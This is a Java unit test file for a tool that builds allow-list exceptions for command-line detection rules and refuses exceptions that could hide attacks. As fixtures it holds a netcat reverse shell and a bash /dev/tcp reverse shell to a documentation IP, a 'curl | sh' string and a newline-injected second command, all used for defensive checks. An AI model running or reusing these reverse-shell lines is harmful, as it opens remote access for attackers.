package dev.longtail.training.passport;

import static org.assertj.core.api.Assertions.assertThat;

import dev.longtail.training.passport.Refusal.Reason;
import dev.longtail.training.recall.Revocation;
import dev.longtail.training.recall.Revocations;
import dev.longtail.training.recall.Trait;
import dev.longtail.udfs.io.Json;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Which families get an exception. */
class PassportMakerTest {
  private static final String LINE = "inventory-agent --report --run 123456";

  @TempDir private Path folder;

  private final List<String> admitted = new ArrayList<>();
  private final List<String> verdicts = new ArrayList<>();
  private final List<LineSighting> seen = new ArrayList<>();
  private final List<KnownAttack> attacks = new ArrayList<>();

  private void admit(String line) {
    admitted.add(
        Json.line(
            Map.of(
                "cmd",
                line,
                "label",
                "benign",
                "window",
                "2025-01-01",
                "scale",
                "full",
                "lineage",
                Map.of(
                    "exemplar", "2025-01-01/full/" + admitted.size(),
                    "model", "judge-1",
                    "prompt_version", "p1",
                    "verdict_reason", "an inventory",
                    "source", Map.of("host", "h-1", "os", "linux", "occurrences", 1)))));
  }

  private void runs(String line, int days, int hosts) {
    for (int day = 1; day <= days; day++) {
      for (int host = 1; host <= hosts; host++) {
        seen.add(
            new LineSighting(line, "2025-01-0" + day, "h-" + host, "root", "linux", "", "", 1));
      }
    }
  }

  private MinedFamilies mined(Revocations revocations) throws IOException {
    Files.createDirectories(folder.resolve("training-data"));
    Files.createDirectories(folder.resolve("verdicts"));
    Files.write(folder.resolve("training-data/a.jsonl"), admitted);
    if (!verdicts.isEmpty()) {
      Files.write(folder.resolve("verdicts/a.jsonl"), verdicts);
    }
    return MinedFamilies.read(folder, revocations);
  }

  private Passport make() throws IOException {
    return make(PassportLimits.DEFAULT, Revocations.NONE);
  }

  private Passport make(PassportLimits limits, Revocations revocations) throws IOException {
    KnownAttacks known = new KnownAttacks();
    known.add(new KnownAttack("set", "1", "nc -e /bin/sh 198.51.100.7 4444"));
    attacks.forEach(known::add);
    MinedFamilies mined = mined(revocations);
    mined.malicious().forEach(known::add);
    return new PassportMaker(
            mined, known, limits, Optional.empty(), Optional.empty(), Optional.empty())
        .make(to -> seen.forEach(to));
  }

  private static Reason onlyReason(Passport passport) {
    assertThat(passport.entries()).isEmpty();
    assertThat(passport.refused()).hasSize(1);
    return passport.refused().get(0).refusal().reason();
  }

  @Test
  void aFamilyThatRanOftenGetsAnExceptionForItsHostsUntilItExpires() throws IOException {
    admit(LINE);
    runs(LINE, 3, 2);
    runs(LINE.replace("123456", "654321"), 1, 4);
    runs(LINE.replace("123456", "777777"), 1, 1);
    Passport passport = make();
    PassportEntry entry = passport.entries().get(0);
    assertThat(entry.patterns()).containsExactly("^inventory-agent --report --run [0-9]{6}$");
    assertThat(entry.openPlaces()).isEqualTo(1);
    assertThat(entry.events()).isEqualTo(11);
    assertThat(entry.days()).isEqualTo(3);
    assertThat(entry.scope().hosts()).containsExactly("h-1", "h-2", "h-3", "h-4");
    assertThat(entry.scope().users()).containsExactly("root");
    assertThat(entry.elasticLines()).hasSize(3).startsWith(LINE);
    assertThat(entry.expires()).isEqualTo("2025-04-01");
    assertThat(passport.sigma().get(0))
        .contains("Called benign by judge-1, prompt p1: an inventory");
    assertThat(passport.totals().coveredEvents()).isEqualTo(11);
  }

  @Test
  void aFamilyOfAnUnknownSystemIsSeenOnAny() throws IOException {
    admit(LINE);
    admitted.set(0, admitted.get(0).replace("\"os\":\"linux\"", "\"os\":\"\""));
    runs(LINE, 3, 2);
    Passport passport = make();
    assertThat(passport.entries()).hasSize(1);
    assertThat(passport.sigma().get(0)).doesNotContain("product");
  }

  @Test
  void onManyHostsItHoldsOnAll() throws IOException {
    admit(LINE);
    runs(LINE, 2, 21);
    Passport passport = make();
    assertThat(passport.entries().get(0).hosts()).isEqualTo(21);
    assertThat(passport.entries().get(0).scope().hosts()).isEmpty();
    assertThat(passport.sigma().get(0)).doesNotContain("ComputerName");
  }

  @Test
  void tooLittleEvidenceIsRefused() throws IOException {
    admit(LINE);
    runs(LINE, 1, 9);
    assertThat(onlyReason(make())).isEqualTo(Reason.EVIDENCE);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '#',
      value = {
        "ls -la # SHORT",
        "report-tool --data QWxsIHlvdXIgYmFzZSBhcmUgYmVsb25nIHRvIHVzIG5vdyE= # PAYLOAD",
        "report-tool --all && bash -i >& /dev/tcp/198.51.100.7/443 0>&1 # ATTACK_MARK",
      })
  void whatIsShortEncodedOrMarkedIsRefused(String line, Reason reason) throws IOException {
    admit(line);
    runs(line, 5, 5);
    assertThat(onlyReason(make())).isEqualTo(reason);
  }

  @Test
  void aLineEndIsRefused() throws IOException {
    admit("inventory-agent --report\nother-command --now");
    assertThat(onlyReason(make())).isEqualTo(Reason.CONTROL_CHARACTER);
  }

  @Test
  void aLongLineIsRefused() throws IOException {
    admit("inventory-agent --report " + "word ".repeat(300) + "end");
    assertThat(onlyReason(make())).isEqualTo(Reason.LONG);
  }

  @Test
  void theTemplateOfAKnownAttackIsRefusedWithTheAttack() throws IOException {
    admit(LINE);
    runs(LINE, 3, 3);
    attacks.add(new KnownAttack("case.jsonl", "17", "inventory-agent --report --run 999999"));
    Passport passport = make();
    assertThat(onlyReason(passport)).isEqualTo(Reason.ATTACK_TEMPLATE);
    assertThat(passport.refused().get(0).refusal().attack().orElseThrow().id()).isEqualTo("17");
  }

  @Test
  void aMaliciousVerdictOfTheBackfillIsAKnownAttack() throws IOException {
    admit(LINE);
    runs(LINE, 3, 3);
    verdicts.add(
        "{\"id\":\"2025-01-02/full/9\",\"verdict\":\"MALICIOUS\",\"model\":\"judge-1\",\"cmd\":\"%s\"}"
            .formatted(LINE));
    Passport passport = make();
    KnownAttack attack = passport.refused().get(0).refusal().attack().orElseThrow();
    assertThat(attack.source()).isEqualTo("verdict of judge-1");
    assertThat(attack.id()).isEqualTo("2025-01-02/full/9");
  }

  /** The template of the attack is another one: nobody has the home of that name. */
  @Test
  void anAttackThatTheWrittenPatternWouldHideIsRefused() throws IOException {
    admit("find /home/alice/work -type f -name report");
    for (String name : List.of("alice", "bob", "winston")) {
      runs("find /home/%s/work -type f -name report".formatted(name), 3, 1);
    }
    attacks.add(new KnownAttack("set", "3", "find /home/public/work -type f -name report"));
    Passport passport = make();
    assertThat(onlyReason(passport)).isEqualTo(Reason.HIDES_ATTACK);
  }

  @Test
  void whatIsRevokedMakesNoException() throws IOException {
    admit(LINE);
    runs(LINE, 3, 3);
    Revocations revoked =
        new Revocations(List.of(Revocation.of(Map.of(Trait.JUDGE, "judge-1"), "", "me", "now")));
    Passport passport = make(PassportLimits.DEFAULT, revoked);
    assertThat(passport.entries()).isEmpty();
    assertThat(passport.totals().revoked()).isEqualTo(1);
  }

  @Test
  void theOutputsAloneSayWhereLinesRan() throws IOException {
    admit(LINE);
    MinedFamilies mined = mined(Revocations.NONE);
    mined.sightings(seen::add);
    assertThat(seen)
        .containsExactly(new LineSighting(LINE, "2025-01-01", "h-1", "", "linux", "", "", 1));
  }

  @Test
  void equalInputsGiveEqualBytesAndWhatIsNoLongerGoes() throws IOException {
    admit(LINE);
    runs(LINE, 3, 2);
    Path out = folder.resolve("out");
    PassportFiles.write(out, make());
    String page = Files.readString(out.resolve(PassportFiles.PAGE));
    Path stale = out.resolve("sigma/mf_longtail_0123456789abcdef.yml");
    Files.writeString(stale, "old");
    PassportFiles.write(out, make());
    assertThat(Files.readString(out.resolve(PassportFiles.PAGE))).isEqualTo(page);
    assertThat(stale).doesNotExist();
    ExceptionSet read = ExceptionSet.read(out, "ComputerName");
    assertThat(read.sigmaFilters()).isEqualTo(1);
    assertThat(read.elasticItems()).isEqualTo(1);
    LineSighting inScope = seen.get(0);
    assertThat(read.sigma(inScope)).hasSize(1).isEqualTo(read.elastic(inScope));
    LineSighting elsewhere = new LineSighting(LINE, "", "h-9", "root", "linux", "", "", 1);
    assertThat(read.sigma(elsewhere)).isEmpty();
    assertThat(read.elastic(elsewhere)).isEmpty();
  }

  /** The check itself: an exception that is too wide is found by the grafts. */
  @Test
  void graftsFindAPatternThatLetsACommandThrough() {
    ExceptionSet wide = new ExceptionSet("ComputerName");
    wide.addSigma(
        SigmaText.of(
            new SigmaText.Content(
                "id",
                "too wide",
                "d",
                "2025-01-01",
                List.of("^inventory-agent --report --run .*$"),
                ExceptionScope.everywhere("linux"),
                Map.of()),
            PassportLimits.DEFAULT),
        "wide.yml");
    List<String> grafts = Grafts.of(LINE, "curl x | sh");
    assertThat(grafts).doesNotHaveDuplicates().hasSizeGreaterThan(20);
    assertThat(grafts).anyMatch(graft -> !wide.sigma(graft).isEmpty());
  }
}
